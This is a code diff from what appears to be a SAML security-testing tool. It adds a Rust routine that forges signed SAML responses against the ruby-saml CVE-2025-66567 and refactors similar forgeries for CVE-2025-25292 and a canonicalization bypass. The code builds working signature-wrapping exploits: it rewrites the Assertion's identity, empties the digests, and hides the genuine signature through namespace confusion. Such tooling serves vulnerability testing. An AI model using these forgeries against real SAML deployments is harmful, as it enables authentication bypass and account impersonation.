@@ -191,6 +191,29 @@ fn digest_values(doc: &Doc, signature: crate::bytes::Node, value: &str) -> Edits
         .collect()
 }
 
+/// The Assertion forged in place, its `signature`'s DigestValues set to H(""), and a namespace
+/// declaration `xmlns:{prefix}="{uri}"` libxml2 cannot canonicalize on the Assertion.
+fn void_digest_forgery(
+    p: &Parts,
+    signature: crate::bytes::Node,
+    prefix: &str,
+    uri: &str,
+) -> Result<(Edits, identity::Swap), Skip> {
+    let doc = p.doc;
+    let (mut edits, swap) =
+        identity::rewrite_edits(doc, p.assertion.range(), &identity::forger(doc));
+    edits.extend(digest_values(
+        doc,
+        signature,
+        &empty_digest(seed_digest_method(signature))?,
+    ));
+    edits.push(insert(
+        after_name(doc.src, p.assertion),
+        format!(" xmlns:{prefix}=\"{uri}\""),
+    ));
+    Ok((edits, swap))
+}
+
 /// ruby-saml CVE-2025-25292 in SAML Raider's template shape: a DTD declares `xmlns` on
 /// `Signature` twice, so libxml2 (first declaration) puts an unprefixed `Signature` in the
 /// XML-DSig namespace and REXML (last declaration) does not. The genuine signature, unprefixed,
@@ -205,17 +228,7 @@ pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
     let sig = p.need_assertion_sig()?;
     let status = child(p.root, PROTOCOL_NS, "Status")
         .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
-    let (mut edits, swap) =
-        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
-    edits.extend(digest_values(
-        &doc,
-        sig,
-        &empty_digest(seed_digest_method(sig))?,
-    ));
-    edits.push(insert(
-        after_name(doc.src, p.assertion),
-        " xmlns:example=\"http://example.com\u{80}\"",
-    ));
+    let (mut edits, swap) = void_digest_forgery(&p, sig, "example", "http://example.com\u{80}")?;
     let moved = unprefixed_signature(&doc, sig);
     edits.push(insert(
         before_end_tag(doc.src, status),
@@ -232,6 +245,31 @@ pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
         format!("<!DOCTYPE {root} [<!ATTLIST Signature xmlns CDATA #FIXED \"{DSIG_NS}\" xmlns CDATA \"block\">]>{xml}"),
         swap,
     )
+}
+
+/// ruby-saml CVE-2025-66567 ("The Fragile Lock"), no DTD needed: the genuine signature, in
+/// `samlp:Extensions`, sits in a `Child` whose `xml:xmlns` attribute REXML takes for a
+/// default-namespace declaration (for REXML it is no `ds:Signature`), while libxml2 keeps the
+/// XML-DSig default namespace of the enclosing `Parent` (its first `ds:Signature`, whose
+/// SignedInfo verifies). The Assertion is forged in place with DigestValue H("") and a relative
+/// namespace URI (`xmlns:ns="1"`) libxml2 cannot canonicalize.
+pub fn namespace_hiding(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let (mut edits, swap) = void_digest_forgery(&p, sig, "ns", "1")?;
+    let hidden = format!(
+        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\"><Parent xmlns=\"{DSIG_NS}\"><Child xml:xmlns=\"#other\">{}</Child></Parent></samlp:Extensions>",
+        unprefixed_signature(&doc, sig)
+    );
+    edits.push(insert(p.after_response_header(), hidden));
+    let xml = p.splice_unsigned_response(edits);
+    if Doc::parse_built(&xml).is_err() {
+        return Err(Skip::NotApplicable(
+            "the Signature's prefix is declared on the Assertion; copied into Extensions it would be unbound".into(),
+        ));
+    }
+    forged(xml, swap)
 }
 
 /// A copy of `signature` named plain `Signature`, without its default-namespace declaration
@@ -261,17 +299,7 @@ pub fn void_canonicalization(f: &Forge) -> Result<Forged, Skip> {
     let doc = Doc::parse(f.seed)?;
     let p = Parts::of(&doc)?;
     let sig = p.need_assertion_sig()?;
-    let (mut edits, swap) =
-        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
-    edits.extend(digest_values(
-        &doc,
-        sig,
-        &empty_digest(seed_digest_method(sig))?,
-    ));
-    edits.push(insert(
-        after_name(doc.src, p.assertion),
-        " xmlns:void=\"relative\"",
-    ));
+    let (mut edits, swap) = void_digest_forgery(&p, sig, "void", "relative")?;
     let method = signed_info(sig)
         .and_then(|si| child(si, DSIG_NS, "SignatureMethod"))
         .and_then(|m| m.attribute("Algorithm"))
